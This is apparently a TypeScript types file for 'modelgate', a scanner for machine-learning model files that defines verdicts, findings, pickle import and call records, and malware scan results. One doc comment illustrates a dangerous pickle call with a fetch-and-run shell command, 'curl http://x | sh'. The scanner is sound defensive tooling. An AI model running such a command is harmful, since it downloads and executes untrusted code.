/**
 * The shapes every part of modelgate speaks: findings, imports, calls and per-file reports.
 * The JSON output (`modelgate scan --format json`) is these objects; keep them stable.
 */

/** A file's overall answer. Ordered from best to worst: safe < suspicious < error < dangerous. */
export type Verdict = "safe" | "suspicious" | "error" | "dangerous";

/** How bad one finding is. `info` is shown but never changes a verdict. */
export type Severity = "info" | "suspicious" | "error" | "dangerous";

/** The Hugging Face Hub's words for a pickle import. */
export type ImportSafety = "innocuous" | "suspicious" | "dangerous";

/** Which check made a finding. */
export type CheckId = "pickle" | "format" | "secrets" | "malware";

/** Content-detected formats. A container's members carry their own format. */
export type FormatId =
  | "pickle"
  | "pytorch-zip"
  | "pytorch-legacy"
  | "pytorch-tar"
  | "numpy"
  | "npz"
  | "joblib"
  | "zip"
  | "tar"
  | "gzip"
  | "bzip2"
  | "xz"
  | "lz4"
  | "lzma"
  | "7z"
  | "zlib"
  | "safetensors"
  | "keras-h5"
  | "keras-v3"
  | "hdf5"
  | "onnx"
  | "gguf"
  | "tf-savedmodel"
  | "text"
  | "empty"
  | "unknown";

/** Where in a file something is. `member` is the path inside a container (`archive/data.pkl`). */
export interface Location {
  member?: string;
  /** Index of a Jupyter notebook cell (0-based, as in the notebook's `cells` array); `line` is then within the cell. */
  cell?: number;
  offset?: number;
  line?: number;
  column?: number;
}

export interface Finding {
  check: CheckId;
  /** Stable rule id (`pickle/dangerous-import`, `zip/crc-mismatch`, ...); never reused for another meaning. */
  rule: string;
  severity: Severity;
  message: string;
  location?: Location;
  /** Small structured extras (secret detector and fingerprint, signature names, ...). Never a secret. */
  data?: Record<string, string | number | boolean>;
}

/** One distinct `module.name` a pickle imports, with the policy's classification. */
export interface ImportRecord {
  module: string;
  name: string;
  safety: ImportSafety;
  /** Why it is dangerous or suspicious (from the policy table). */
  reason?: string;
  /** First place it is imported. */
  location: Location;
  /** How many times the stream(s) import it. */
  count: number;
}

/** A call a pickle makes when loaded (REDUCE, INST, OBJ, NEWOBJ, NEWOBJ_EX, BUILD). */
export interface CallRecord {
  /** The callable as a dotted name, or a description such as `<result of builtins.getattr(...)>`. */
  callable: string;
  /** Short summary of literal arguments, e.g. `('curl http://x | sh',)`. */
  args: string;
  opcode: string;
  safety: ImportSafety;
  location: Location;
}

/** Malware scan result for one file (mirrors the Hugging Face Hub's `avScan`). */
export interface AvResult {
  status: "clean" | "infected" | "not-scanned" | "error";
  signatures: string[];
  message?: string;
}

export interface FileReport {
  /** Relative to the scanned directory when a directory was given, else as given. */
  path: string;
  format: FormatId;
  size: number;
  verdict: Verdict;
  imports: ImportRecord[];
  /** Dangerous and suspicious calls (and a bounded sample of others). */
  calls: CallRecord[];
  findings: Finding[];
  /** Members of a container, each with its own format (the file's verdict already includes them). */
  members?: { path: string; format: FormatId; size: number }[];
  /** Format summary (tensor counts, dtypes, metadata, ...). */
  info?: Record<string, unknown>;
  av?: AvResult;
}

export interface ScanSummary {
  files: number;
  verdicts: Record<Verdict, number>;
  /** Checks that could not run, with why (e.g. `malware: not configured`). */
  notes: string[];
}

export interface ScanReport {
  version: 1;
  files: FileReport[];
  summary: ScanSummary;
}
